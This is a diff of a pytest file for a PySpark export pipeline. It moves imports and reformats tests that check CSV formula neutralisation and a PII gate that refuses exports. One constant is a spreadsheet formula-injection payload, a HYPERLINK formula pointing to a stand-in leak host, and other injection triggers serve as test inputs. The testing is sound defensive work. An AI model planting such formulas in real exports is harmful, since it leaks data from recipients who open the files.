@@ -11,18 +11,18 @@ from pathlib import Path
 import pytest
 from pyspark.sql import functions as F
 
-from tests.gold_fixtures import USAGE_SCHEMA, usage_rows
-from expectations.contracts import USAGE_BY_TIME_OF_DAY
 from expectations.gate import GateFailure, validate_table
-from jobs.csv_safe import neutralise_formula, with_formulas_neutralised
+from jobs.config.policy import load_policy
+from jobs.config.recipients import Recipient
 from jobs.errors import GateRefused
-from jobs.export import export_release, write_release_data
-from jobs.lake import Lake
-from jobs.ledger import gate_docs_dir, read_ledger
-from jobs.policy import load_policy
-from jobs.recipients import Recipient
-from jobs.session import project_path
-from jobs.verify import sha256_of, verify_release
+from jobs.lake.layout import Lake
+from jobs.lake.session import project_path
+from jobs.release.csv_safe import neutralise_formula, with_formulas_neutralised
+from jobs.release.export import export_release, write_release_data
+from jobs.release.ledger import gate_docs_dir, read_ledger
+from jobs.release.verify import sha256_of, verify_release
+from tests.gold_fixtures import USAGE_SCHEMA, usage_rows
+from transforms.contracts import USAGE_BY_TIME_OF_DAY
 
 DATASET = "usage_by_time_of_day"
 PLANTED_EMAIL = "planted.export.person@leak-test.example"
@@ -31,9 +31,6 @@ IN_SET = "expect_column_values_to_be_in_set"
 NO_PII = "expect_column_values_to_contain_no_pii"
 NOT_NULL = "expect_column_values_to_not_be_null"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'
-
-
-
 
 
 def make_lake(spark, root: Path, rows: list[tuple]) -> Lake:
@@ -164,8 +161,7 @@ def test_neutralise_formula_quotes_every_trigger_and_nothing_else(spark):
     cells = [HYPERLINK, "+1 202", "-2", "@SUM(A1)", "\t=cmd", "\r=cmd", "us", "a=b", " =x", "", None]
     df = spark.createDataFrame([(cell,) for cell in cells], "cell string")
     out = [row.cell for row in df.select(neutralise_formula(F.col("cell")).alias("cell")).collect()]
-    assert out == ["'" + HYPERLINK, "'+1 202", "'-2", "'@SUM(A1)", "'\t=cmd", "'\r=cmd",
-                   "us", "a=b", " =x", "", None]  # fmt: skip
+    assert out == ["'" + HYPERLINK, "'+1 202", "'-2", "'@SUM(A1)", "'\t=cmd", "'\r=cmd", "us", "a=b", " =x", "", None]
 
 
 def test_only_string_columns_are_neutralised(spark):
@@ -232,8 +228,10 @@ IPV6 = "2001:db8::8a2e:370:7334"
         ({"access_type": IPV6}, None, ("access_type", NO_PII)),
     ],
 )
-def test_export_command_refuses_with_exit_3_for_the_right_reason(spark, tmp_path, capsys, changes, extra_column, expected):
-    from jobs.cli import main
+def test_export_command_refuses_with_exit_3_for_the_right_reason(
+    spark, tmp_path, capsys, changes, extra_column, expected
+):
+    from jobs.commands.cli import main
 
     rows_df = spark.createDataFrame(usage_rows(**changes), USAGE_SCHEMA)
     if extra_column:
@@ -242,8 +240,9 @@ def test_export_command_refuses_with_exit_3_for_the_right_reason(spark, tmp_path
     rows_df.write.format("delta").save(lake.gold(DATASET))
     recipients = tmp_path / "recipients.yaml"
     recipients.write_text(f"recipients:\n  - {{name: acme-research, kind: research, datasets: [{DATASET}]}}\n")
-    code = main(["export", "--lake", str(lake.root), "--exports", str(tmp_path / "exports"),
-                 "--recipients", str(recipients)])  # fmt: skip
+    code = main(
+        ["export", "--lake", str(lake.root), "--exports", str(tmp_path / "exports"), "--recipients", str(recipients)]
+    )
     assert code == 3
     assert not (tmp_path / "exports" / "acme-research").exists()
     [row] = ledger_rows(spark, lake)
@@ -258,9 +257,9 @@ def test_one_ledger_holds_a_published_and_a_refused_release(spark, tmp_path, pol
     lake = make_lake(spark, tmp_path, usage_rows())
     exports = tmp_path / "exports"
     export_release(spark, lake, exports, recipient(), DATASET, policy)
-    spark.createDataFrame(usage_rows(distinct_accounts=2), USAGE_SCHEMA).write.format("delta").mode(
-        "overwrite"
-    ).save(lake.gold(DATASET))
+    spark.createDataFrame(usage_rows(distinct_accounts=2), USAGE_SCHEMA).write.format("delta").mode("overwrite").save(
+        lake.gold(DATASET)
+    )
     with pytest.raises(GateRefused):
         export_release(spark, lake, exports, recipient(), DATASET, policy)
     rows = ledger_rows(spark, lake)
